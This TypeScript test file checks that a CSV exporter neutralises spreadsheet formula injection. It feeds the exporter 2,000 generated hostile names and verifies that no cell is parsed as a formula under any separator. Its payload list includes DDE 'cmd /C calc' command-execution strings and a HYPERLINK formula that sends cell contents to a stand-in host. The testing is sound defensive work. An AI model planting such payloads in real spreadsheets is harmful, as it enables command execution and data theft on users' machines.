/** What a spreadsheet makes of our tables, whichever separator it splits at: nothing that it would run. */
import { parse as parseFormula, tokenize } from "@borgar/fx";
import { parse as parseCsv } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvText } from "./csv.ts";

const SEPARATORS = [",", ";", "\t"] as const;

const unseen = fc.constantFrom(
  ...' ,\u00A0,\u200B,\u200D,\uFEFF,\u0000,\u000B,\u000C,\u0085,\u2028,\u3000,\u00AD,\u2060,\u202E,\u3164,\uFE0F,\u001F,\t,\n,\r,\r\n,"'.split(
    ",",
  ),
);
const operator = fc.constantFrom(..."=+-@＝＋－＠﹦﹢﹣﹫⁼⁺⁻₌₊₋−");
const payload = fc.constantFrom(
  "1+1",
  "1+1%",
  "SUM(1,2)",
  'HYPERLINK("http://example.invalid/"&A1,"photo")',
  "A1&\"cmd|'/C calc'!A0\"",
  'DDE("cmd";"/C calc";"x")',
  "A1",
  "2-3",
  "1+1+A0",
  '"',
);
const separator = fc.constantFrom(
  "",
  "",
  ",",
  ";",
  "\t",
  "|",
  "\n",
  "\r\n",
  "a;",
  'a";',
  "a,",
  'x"\t',
  '";"',
  "photo ",
);
const name = fc
  .tuple(
    separator,
    fc.array(unseen, { maxLength: 3 }),
    operator,
    payload,
    fc.constantFrom("", '"', ".jpg", ";=1+1", '\t"=1+1'),
  )
  .map(([before, hidden, sign, formula, after]) => before + hidden.join("") + sign + formula + after);

const names = fc.sample(name, { numRuns: 2000, seed: 11 });

/** Return the text as a lenient spreadsheet sees it: without what is not seen, and with the plain form of each character. */
function seen(cell: string): string {
  return cell
    .replace(/[\p{White_Space}\p{C}\p{Default_Ignorable_Code_Point}"]/gu, " ")
    .trim()
    .normalize("NFKC")
    .replace(/^\u2212/, "-");
}

const startsLikeFormula = (cell: string) => /^[=+\-@]/.test(seen(cell)) && !/^-?\d+(\.\d+)?$/.test(cell);

/** Whether a cell is a formula: it begins as one, and a parser of formulas understands what follows. */
function isFormula(cell: string): boolean {
  if (!startsLikeFormula(cell)) return false;
  try {
    parseFormula(tokenize(seen(cell).replace(/^=?/, "=")));
    return true;
  } catch {
    return false;
  }
}

/** Return the cells that a reader finds: one that minds quotes, and one that does not. */
function cellsOf(text: string, delimiter: string): string[] {
  const options = {
    delimiter,
    relax_quotes: true,
    relax_column_count: true,
    record_delimiter: ["\r\n", "\n", "\r"],
  };
  const careful = (parseCsv(text, options) as string[][]).flat();
  return [...careful, ...text.split(/[\r\n]/).flatMap((line) => line.split(delimiter))];
}

/** Count the cells of the names' tables that answer to a test, over all separators and readers. */
const count = (tables: readonly string[], is: (cell: string) => boolean) =>
  SEPARATORS.map((each) => tables.flatMap((text) => cellsOf(text, each)).filter(is).length);

describe("a table of 2,000 hostile names", () => {
  const tables = names.flatMap((each) => [
    csvText([
      ["name", "bytes", "state"],
      [each, -1.5, "scored"],
      ["plain.jpg", 2, each],
      [each, each, "end"],
    ]),
  ]);

  it("has formulas in it where nothing is guarded, so that this test can fail", () => {
    const bare = names.map(
      (each) => `"${each.replaceAll('"', '""')}",1\r\nplain.jpg,"${each.replaceAll('"', '""')}"\r\n`,
    );
    for (const found of count(bare, isFormula)) expect(found).toBeGreaterThan(800);
  });

  it("has no cell that begins a formula or that a formula's parser takes for one, at comma, semicolon or tab", () => {
    expect(count(tables, isFormula)).toEqual([0, 0, 0]);
    expect(count(tables, startsLikeFormula)).toEqual([0, 0, 0]);
  });

  it("still has every name, readable: only apostrophes were added", () => {
    for (const [index, text] of tables.entries()) {
      const [, row = []] = parseCsv(text, { relax_column_count: true }) as string[][];
      expect(row[0]?.replaceAll("'", "")).toBe(names[index]?.replaceAll("'", ""));
    }
  });
});
